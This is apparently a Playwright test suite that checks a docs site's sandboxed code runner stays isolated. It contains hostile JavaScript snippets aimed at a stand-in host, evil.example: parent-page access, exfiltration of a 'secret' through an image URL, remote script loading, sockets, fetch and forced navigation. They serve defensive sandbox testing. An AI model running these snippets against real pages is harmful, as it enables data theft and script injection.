import type {Page} from '@playwright/test';
import {expect, open, test} from './fixtures';
import type {Problems} from './Problems';
import {panelOf, runFirst, runInstead} from './run';

const program = '/introduction/getting-started';

/** The browser says in the console what it refused; that is the point of these tests. */
const refusals = (problems: Problems) =>
  problems.allow(/^(error|warning): |^request: https:\/\/evil\.example/);

/** The page is alive: it runs scripts, and its panel closes. */
async function answers(page: Page) {
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
  await panelOf(page).getByRole('button', {name: 'Close'}).click();
  await expect(panelOf(page)).toHaveCount(0);
}

const ATTEMPTS: Record<string, string> = {
  'the document of the page': 'parent.document.title',
  'its storage': 'parent.localStorage.length',
  'its address': 'parent.location.href',
  'a popup': "window.open('https://evil.example/') ?? refuse()",
  'navigation of the page': "void (top.location.href = 'https://evil.example/')",
  'the network, by XMLHttpRequest':
    "new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open('GET', '/sitemap.xml'); x.send(); })",
  'the network, by a socket':
    "new Promise((done, fail) => { const s = new WebSocket('wss://evil.example/'); s.onopen = done; s.onerror = fail; })",
  'the network, by a picture':
    "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = 'https://evil.example/?' + 'secret'; })",
  'the network, by a script':
    "new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = fail; s.src = 'https://evil.example/a.js'; document.head.append(s); })",
  'the network, by fetch': "fetch('https://evil.example/')",
  'a worker': "new Promise((done, fail) => { const w = new Worker('/a.js'); w.onerror = fail; })",
};

test('hostile code reaches neither the page nor the network', async ({page, problems}) => {
  refusals(problems);
  // Where the browser's own refusal does not stop a request, it gets here.
  const reached: string[] = [];
  await page.route(/evil\.example|sitemap\.xml/, (route) => {
    reached.push(route.request().url());
    return route.fulfill({body: ''});
  });
  await open(page, program);
  const address = page.url();
  const tries = Object.entries(ATTEMPTS).map(
    ([name, code]) =>
      `try { await (${code}); console.log(${JSON.stringify(name)} + ': reached'); } catch { console.log(${JSON.stringify(name)} + ': refused'); }`,
  );
  await runInstead(
    page,
    `const refuse = () => { throw new Error(); };\n${tries.join('\n')}\nconsole.log('end');`,
  );
  await expect(panelOf(page).getByRole('tabpanel')).toContainText('end');
  const lines = (await panelOf(page).getByRole('tabpanel').innerText()).trim().split('\n');
  expect(lines).toEqual([...Object.keys(ATTEMPTS).map((name) => `${name}: refused`), 'end']);
  expect(page.url()).toBe(address);
  expect(reached).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  await answers(page);
});

test('forms, downloads and questions come to nothing', async ({page, problems}) => {
  refusals(problems);
  let happened = '';
  page.on('download', () => (happened = 'download'));
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => (happened = 'dialog')));
  await open(page, program);
  await runInstead(
    page,
    `document.body.innerHTML = '<form action="https://evil.example/"><button id="b"></button></form><a id="a" download="x" href="data:text/plain,x"></a>';
     document.getElementById('b').click(); document.getElementById('a').click(); alert('?');
     // A form that took the frame away would take this along.
     await new Promise((go) => setTimeout(go, 500)); console.log('end');`,
  );
  await expect(panelOf(page).getByRole('tabpanel')).toHaveText('end');
  expect(happened).toBe('');
  await answers(page);
});

for (const [where, target] of [
  ['another site', 'https://evil.example/'],
  ['this site', '/rtk-query/overview'],
])
  test(`a frame that goes to ${where} is removed`, async ({page, problems}) => {
    refusals(problems);
    await open(page, program);
    await runInstead(page, `location.href = '${target}';`);
    await expect(panelOf(page).getByRole('alert')).toContainText('tried to leave its frame');
    await expect(panelOf(page).locator('iframe')).toHaveCount(0);
    await answers(page);
  });

const FLOODS: Record<string, string> = {
  'console lines': 'for (let at = 0; at < 2e4; at++) console.log(at);',
  messages:
    "for (let at = 0; at < 2e4; at++) parent.postMessage({type: 'request', id: at, method: 'GET', url: '/'}, '*');",
};
for (const [what, code] of Object.entries(FLOODS))
  test(`a flood of ${what} is stopped, and the page goes on`, async ({page}) => {
    await open(page, program);
    await runInstead(page, code);
    await expect(panelOf(page).getByRole('alert')).toContainText('faster than anybody can read');
    await answers(page);
  });

test('an endless loop does not freeze the page, and is stopped', async ({page}) => {
  await open(page, program);
  await runInstead(page, 'console.log("start"); for (;;);');
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
  await expect(panelOf(page).getByRole('alert')).toContainText('does not respond', {timeout: 30_000});
  await answers(page);
});

const ENDINGS: Record<string, [code: string, says: string]> = {
  'endless recursion': ['const f = () => f() + 1; f();', 'RangeError'],
  'all the memory': ['const all = []; for (;;) all.push(new ArrayBuffer(2 ** 32));', 'RangeError'],
  'an error': ["throw new TypeError('No such tea');", 'No such tea'],
};
for (const [what, [code, says]] of Object.entries(ENDINGS))
  test(`${what} ends the run with a message`, async ({page}) => {
    await open(page, program);
    await runInstead(page, code);
    await expect(panelOf(page).getByRole('status')).toHaveText(/^Stopped with an error/);
    await expect(panelOf(page).getByRole('tabpanel')).toContainText(says);
    await answers(page);
  });

test('messages count only from the frame, and in their shape', async ({page}) => {
  await open(page, program);
  await runInstead(
    page,
    `parent.postMessage({type: 'console', level: 'log', text: {}}, '*');
     parent.postMessage({type: 'action', changes: 'no'}, '*');
     parent.postMessage('ready', '*'); parent.postMessage({type: 'ready'}, '*'); console.log('own');`,
  );
  await expect(panelOf(page).getByRole('tabpanel')).toHaveText('own');
  await page.evaluate(() => window.postMessage({type: 'console', level: 'log', text: 'forged'}, '*'));
  await page.evaluate(() => new Promise((done) => setTimeout(done, 200)));
  await expect(panelOf(page).getByRole('tabpanel')).toHaveText('own');
  await answers(page);
});

test('a file of the frame that is missing is said so, and tried again', async ({page, problems}) => {
  refusals(problems);
  await page.route(/\/assets\/run\/core\./, (route) => route.abort());
  await open(page, program);
  await runFirst(page);
  await expect(panelOf(page).getByRole('alert')).toContainText('did not load');
  await page.unrouteAll();
  await panelOf(page).getByRole('button', {name: 'Try again'}).click();
  await expect(panelOf(page).getByRole('status')).toHaveText(/^Done/);
});

test('after a new deploy the page says that the sample did not load', async ({page, problems}) => {
  refusals(problems);
  await page.route(/\/assets\/run\/[\da-f]+\.json$/, (route) => route.fulfill({status: 404}));
  await open(page, program);
  await page.getByRole('button', {name: 'Run', exact: true}).first().click();
  await expect(page.getByRole('alert')).toContainText('Try again, or reload');
  await page.unrouteAll();
  await runFirst(page);
  await expect(page.getByText('Try again, or reload')).toHaveCount(0);
});
